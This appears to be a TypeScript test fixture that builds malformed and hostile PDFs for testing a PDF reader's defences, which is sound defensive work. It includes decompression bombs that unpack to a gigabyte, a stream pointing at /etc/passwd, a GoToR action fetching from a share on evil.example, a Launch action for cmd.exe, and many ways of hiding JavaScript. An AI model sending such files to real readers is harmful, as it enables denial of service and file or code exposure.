import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { buildPdf, objectStream, onePagePdf, pageObjects, pdfStream } from './pdfs.ts'

type NamedPdf = [name: string, build: () => Buffer]

/** PDFs that are damaged, or built to exhaust or mislead a reader. */
export const unreadablePdfs: NamedPdf[] = [
  ['nothing but its header', () => onePagePdf().subarray(0, 20)],
  ['no pages', () => buildPdf(['<< /Type /Catalog >>'])],
  [
    'a damaged stream',
    () => buildPdf([...pageObjects(), pdfStream('', { packed: Buffer.from('no deflate at all') })]),
  ],
  [
    'a stream that unpacks to a gigabyte',
    () => buildPdf([...pageObjects(), pdfStream('', { packed: packedGigabyte() })]),
  ],
  [
    'a stream with an unknown filter',
    () => buildPdf([...pageObjects(), pdfStream('x', { filter: '/Filter /Unknown' })]),
  ],
  [
    'a stream in another file',
    () => buildPdf([...pageObjects(), pdfStream('x', { dict: '/F (/etc/passwd)' })]),
  ],
  ['endlessly nested arrays', () => buildPdf([...pageObjects(), '['.repeat(200_000)])],
  [
    'an object stream without its type',
    () =>
      buildPdf([
        ...pageObjects(),
        objectStream({ 9: '<< /Type /Font >>' }, '/Type /XObject /Subtype /Image'),
      ]),
  ],
  [
    'an object in a stream’s bytes',
    () =>
      buildPdf([
        ...pageObjects(),
        pdfStream('', {
          packed: Buffer.from('\n9 0 obj\n<< /Type /Font >>\nendobj\n'),
          filter: '',
        }),
      ]),
  ],
]

/** PDFs that need more memory or time than the reader is allowed. */
export const exhaustingPdfs: NamedPdf[] = [
  [
    'a PDF with a stream that unpacks twice, to a gigabyte',
    () => {
      const packed = deflateSync(packedGigabyte())
      return buildPdf([
        ...pageObjects(),
        pdfStream('', { packed, filter: '/Filter [/FlateDecode /FlateDecode]' }),
      ])
    },
  ],
  [
    'a PDF with an object stream that unpacks to a gigabyte',
    () =>
      buildPdf([
        ...pageObjects(),
        pdfStream('', {
          packed: packedGigabyte(' '),
          dict: '/Type /ObjStm /N 1 /First 4',
        }),
      ]),
  ],
  [
    'a PDF with many streams that unpack to a gigabyte',
    () => {
      const packed = deflateSync(Buffer.alloc(50 * 2 ** 20))
      return buildPdf([
        ...pageObjects(),
        ...Array.from({ length: 20 }, () => pdfStream('', { packed })),
      ])
    },
  ],
]

/**
 * A zlib stream that unpacks to a gigabyte of one character. It has no checksum, because a reader
 * must stop before the end.
 */
function packedGigabyte(character = '\0'): Buffer<ArrayBuffer> {
  const megabyte = deflateRawSync(Buffer.alloc(2 ** 20, character), {
    finishFlush: constants.Z_FULL_FLUSH,
  })
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: 1024 }, () => megabyte),
    // An empty final block.
    Buffer.from([0x03, 0x00, 0, 0, 0, 0]),
  ])
}

const action = (subtype: string) => `<< /S /${subtype} /JS (app.alert(1)) >>`
const withAction = (subtype: string) =>
  buildPdf(pageObjects({ more: `/OpenAction ${action(subtype)}` }))

/** PDFs with active content, in every way that the format allows. */
export const activePdfs: NamedPdf[] = [
  ['JavaScript that runs on opening', () => withAction('JavaScript')],
  [
    'JavaScript in a 3D model',
    () =>
      buildPdf([
        ...pageObjects(),
        pdfStream('model', { dict: '/Type /3D /Subtype /U3D /OnInstantiate 5 0 R' }),
        pdfStream('app.alert(1)'),
      ]),
  ],
  [
    'an action that opens another file',
    () =>
      buildPdf(
        pageObjects({
          more: '/OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>',
        }),
      ),
  ],
  [
    'JavaScript with escaped letters',
    () =>
      buildPdf(pageObjects({ more: '/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>' })),
  ],
  [
    'JavaScript in its name dictionary',
    () =>
      buildPdf([
        ...pageObjects({ more: '/Names << /JavaScript 4 0 R >>' }),
        `<< /Names [(a) ${action('JavaScript')}] >>`,
      ]),
  ],
  [
    'JavaScript in an annotation',
    () =>
      buildPdf([...pageObjects(), `<< /Type /Annot /Subtype /Link /A ${action('JavaScript')} >>`]),
  ],
  [
    'JavaScript in a form field',
    () =>
      buildPdf([
        ...pageObjects({ more: '/AcroForm << /Fields [4 0 R] >>' }),
        `<< /FT /Tx /AA << /K ${action('JavaScript')} >> >>`,
      ]),
  ],
  ['JavaScript in a rendition', () => withAction('Rendition')],
  ['a script without its type', () => buildPdf([...pageObjects(), '<< /JS (app.alert(1)) >>'])],
  [
    'JavaScript in an object stream',
    () =>
      buildPdf([
        ...pageObjects({ more: '/OpenAction 9 0 R' }),
        objectStream({ 8: '<< /Type /Font >>', 9: action('JavaScript') }),
      ]),
  ],
  [
    'JavaScript with escaped letters in an object stream',
    () =>
      buildPdf([
        ...pageObjects({ more: '/OpenAction 9 0 R' }),
        objectStream({ 9: '<< /S /Java#53cript /J#53 (1) >>' }),
      ]),
  ],
  [
    'JavaScript in a replaced object',
    () =>
      buildPdf([
        ...pageObjects(),
        action('JavaScript').replace('/S /JavaScript', '/S /URI'),
        '<< /Type /Font >>',
      ]),
  ],
  [
    'JavaScript in a stream’s bytes',
    () => buildPdf([...pageObjects(), pdfStream(`9 0 obj ${action('JavaScript')} endobj`)]),
  ],
  ['a program to launch', () => buildPdf([...pageObjects(), '<< /S /Launch /F (cmd.exe) >>'])],
  [
    'an embedded file',
    () =>
      buildPdf([
        ...pageObjects({ more: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>' }),
        '<< /Type /Filespec /EF << /F 5 0 R >> >>',
        pdfStream('MZ'),
      ]),
  ],
  [
    'an embedded file outside of its name dictionary',
    () =>
      buildPdf([
        ...pageObjects({ more: '/AF [4 0 R]' }),
        '<< /Type /Filespec /EF << /F 5 0 R >> >>',
        pdfStream('MZ'),
      ]),
  ],
  ['rich media', () => buildPdf([...pageObjects(), '<< /Type /Annot /Subtype /RichMedia >>'])],
  [
    'an XFA form',
    () => buildPdf([...pageObjects({ more: '/AcroForm << /XFA 4 0 R >>' }), pdfStream('<xdp/>')]),
  ],
]
